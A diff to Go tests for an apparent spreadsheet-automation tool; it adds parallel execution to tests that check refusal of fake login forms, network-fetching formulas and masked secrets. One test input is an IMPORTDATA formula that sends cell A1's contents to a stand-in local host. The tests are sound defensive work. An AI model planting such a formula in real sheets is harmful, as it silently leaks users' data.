@@ -22,6 +22,7 @@ import (
 // write refuses a cell whose editor is a field of a form, and nothing is
 // posted.
 func TestSheetWriteFakeSheetLoginForm(t *testing.T) {
+	t.Parallel()
 	var mu sync.Mutex
 	var posts []string
 	page := `<!doctype html><title>Sign in</title>
@@ -57,6 +58,7 @@ func TestSheetWriteFakeSheetLoginForm(t *testing.T) {
 // what the cells held; a cell that holds something else by the time it is
 // written is not overwritten (changed), whatever was read at the start.
 func TestSheetFillChangedDuringFill(t *testing.T) {
+	t.Parallel()
 	s, ctx := newSession(t)
 	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"", ""}},
 		Script: `const iv = setInterval(() => {
@@ -86,6 +88,7 @@ func TestSheetFillChangedDuringFill(t *testing.T) {
 // touched, and sheet fill, which asks, is named. A formula that only
 // computes is written as before.
 func TestSheetWriteFetchingFormula(t *testing.T) {
+	t.Parallel()
 	s, ctx := newSession(t)
 	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"secret plan", ""}, {"2", "3"}}})
 	for _, v := range []string{
@@ -118,6 +121,7 @@ func TestSheetWriteFetchingFormula(t *testing.T) {
 // whose cells hold the same empty values — same URL, same page load,
 // same cells and values — asks again: the approval names the worksheet.
 func TestSheetFillOtherWorksheet(t *testing.T) {
+	t.Parallel()
 	s, ctx := newSession(t)
 	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"", ""}},
 		Script: `const iv = setInterval(() => {
@@ -168,6 +172,7 @@ func TestSheetFillOtherWorksheet(t *testing.T) {
 // ask its person, in --json). A PIN among the values must not be found
 // from it by trying every PIN: the digest is keyed by the session.
 func TestSheetFillDigestHidesSecret(t *testing.T) {
+	t.Parallel()
 	s, ctx := newSession(t)
 	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"user", "pin"}, {"", ""}}})
 	const pin = "4821"
@@ -189,6 +194,7 @@ func TestSheetFillDigestHidesSecret(t *testing.T) {
 // TestSheetFillSecretFormula: a secret is approved masked ("••••"), so a
 // secret that is a fetching formula would send unseen: refused.
 func TestSheetFillSecretFormula(t *testing.T) {
+	t.Parallel()
 	s, ctx := newSession(t)
 	openSheet(t, s, ctx, apptest.SheetOptions{Data: [][]string{{"a", ""}}})
 	_, err := s.SheetFill(ctx, calls.SheetFillRequest{Secrets: map[string]string{"B1": `=IMPORTDATA("http://127.0.0.1:1/"&A1)`}})
